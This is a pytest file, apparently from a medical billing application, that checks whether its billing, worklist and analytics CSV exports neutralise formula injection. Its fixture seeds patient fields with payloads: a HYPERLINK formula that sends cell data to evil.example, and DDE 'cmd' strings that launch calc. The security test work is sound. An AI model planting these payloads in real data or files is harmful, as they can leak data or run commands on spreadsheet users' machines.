"""Case 9: CSV formula injection in the exports (cells that start with = + - @, tab or CR).

Pass: every such cell is neutralised in the billing CSV (page and API), the pre-close worklist
export and the capture-analytics export.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import UTC, datetime

import pytest
import time_machine
from django.test import Client

from careledger.billing.close import close_month
from tests.billing.builders import MONTH, NOW, rpm_patient
from tests.conftest import PracticeWorld
from tests.worklists.test_pages import add_patient

pytestmark = pytest.mark.django_db

PREFIXES = ["=", "+", "-", "@", "\t", "\r"]
DANGEROUS = tuple(PREFIXES)


@pytest.fixture(autouse=True)
def _april_26() -> Iterator[None]:
    # The pre-close worklist is open in the last business days of April.
    with time_machine.travel(datetime(2026, 4, 26, 17, 0, tzinfo=UTC), tick=False):
        yield


@pytest.fixture
def hostile(world: PracticeWorld) -> None:
    for n, prefix in enumerate(PREFIXES):
        rpm_patient(
            world,
            22 if n % 2 else 12,  # some billed, some short of 20 minutes (on the worklist)
            family_name=f'{prefix}HYPERLINK("http://evil.example/?x="&A1,"click")',
            given_name=f"{prefix}cmd|' /C calc'!A0",
            mrn=f"{prefix}M{n}",
            city=f"{prefix}1+1",
        )
        # A CCM patient 4 minutes short of 20: a reachable row on the pre-close worklist.
        add_patient(world, "CCM", 16, n=n, family_name=f"{prefix}SUM(A1:A9)*cmd|' /C calc'!A0")
    close_month(practice=world.practice, month=MONTH, actor=None, now=NOW)


def _cells(response) -> list[str]:  # type: ignore[no-untyped-def]
    assert response.status_code == 200
    body = b"".join(response.streaming_content) if response.streaming else response.content
    rows = list(csv.reader(io.StringIO(body.decode("utf-8"), newline="")))
    assert len(rows) > 1, "the export has data rows"
    return [cell for row in rows[1:] for cell in row]


def _assert_neutralised(cells: list[str], where: str) -> None:
    bad = [cell for cell in cells if cell.startswith(DANGEROUS)]
    assert bad == [], f"formula cells in {where}: {bad[:5]}"
    assert any(cell.startswith("'=") for cell in cells) or any(
        cell.startswith("'") for cell in cells
    ), f"no neutralised cell seen in {where}"


def test_the_billing_csv_neutralises_every_formula_cell(
    world: PracticeWorld,
    hostile: None,
    login,
    api_client,  # type: ignore[no-untyped-def]
) -> None:
    page = login(world, "manager").get("/billing/2026-04/billing.csv")
    api = api_client(world.user("biller")).get("/api/v1/months/2026-04/billing.csv")
    for where, response in (("page", page), ("api", api)):
        cells = _cells(response)
        _assert_neutralised(cells, where)
        names = [c for c in cells if "HYPERLINK" in c]
        assert {name[:2] for name in names} >= {"'=", "'+", "'-", "'@"}


def test_the_worklist_and_analytics_exports_neutralise_every_formula_cell(
    world: PracticeWorld,
    hostile: None,
    login,  # type: ignore[no-untyped-def]
) -> None:
    client: Client = login(world, "manager")
    worklist = _cells(client.get("/worklists/pre-close/export.csv"))
    _assert_neutralised(worklist, "pre-close export")
    assert any(cell.startswith("'") and "SUM(A1:A9)" in cell for cell in worklist)
    analytics = client.get("/worklists/analytics/capture.csv")
    assert analytics.status_code == 200
    body = b"".join(analytics.streaming_content) if analytics.streaming else analytics.content
    rows = list(csv.reader(io.StringIO(body.decode("utf-8"), newline="")))
    assert [c for row in rows[1:] for c in row if c.startswith(DANGEROUS)] == []
